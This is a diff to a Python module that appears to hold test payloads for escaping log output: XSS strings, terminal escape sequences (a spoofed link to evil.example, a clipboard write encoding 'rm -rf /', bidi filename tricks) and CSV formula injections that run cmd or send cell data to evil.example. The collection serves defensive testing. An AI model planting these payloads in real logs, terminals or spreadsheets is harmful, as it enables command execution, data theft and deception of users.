@@ -1,4 +1,6 @@
-"""What people have put into logs to make a page run it."""
+"""What people have put into logs to make a page, a terminal or a spreadsheet obey it."""
+
+import re
 
 #: Forty payloads; each would add an element or an attribute to a page that shows it unescaped.
 XSS = [
@@ -43,3 +45,31 @@ XSS = [
     "' onmouseover='alert(1)",
     "<template><script>1</script></template>",
 ]
+
+#: What a terminal obeys or hides: C0 and C1 controls, line separators, bidirectional marks, zero width, tags.
+HARMFUL = re.compile(
+    "[\x00-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\ud800-\udfff\U000e0000-\U000e007f]"
+)
+#: Things that terminals have been made to do.
+TERMINAL = [
+    "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",  # a link with another text
+    "\x1b]52;c;cm0gLXJmIC8=\x07",  # the clipboard
+    "\x1b]0;title\x07", "\x1b]2;title\x1b\\",  # the window's title
+    "\x7fdelete", "\x1b[21t", "\x1b[6n", "\x1b[c", "\x05",  # an answer that is typed into the shell
+    '\x1bP$q"p\x1b\\', "\x1bPq\x1b\\", "\x1b_G\x1b\\",  # device control, pictures
+    "\x1b[2J\x1b[H", "\x1bc", "\x1b[?1049h",  # another screen
+    "\x1b[1;31mred\x1b[0m", "\x1b[8mhidden\x1b[0m",  # colours, invisible text
+    "\x9b31m", "\x9d52;c;eA==\x9c", "\x90q\x9c",  # the same with C1 controls
+    "safe\rfake", "a\x08b", "line\x0bfeed\x0c", "\x85next",  # written over, other line ends
+    "\u202egnp.exe", "a\u2066b\u2069", "\u200bzero", "\u2028line", "\ufeffmark",  # order and width
+    "\udc9b31m", "\U000e0041tag",  # undecodable bytes, invisible letters
+]  # fmt: skip
+
+#: Twenty that a spreadsheet would compute, fetch or run when it opens a CSV file that holds them bare.
+SPREADSHEET = [
+    "=1+1", "+1+1", "-1+1", "@SUM(1)",
+    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?"&A1,"more")', '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
+    '=IMAGE("http://evil.example/x")', '=WEBSERVICE("http://evil.example/")', '=DDE("cmd";"/C calc";"x")',
+    "\t=1+1", "\r=1+1", "\0=1+1", "'=1+1", "\uff1d1+1", "\uff0b1+1", '",=1+1,"',
+]  # fmt: skip
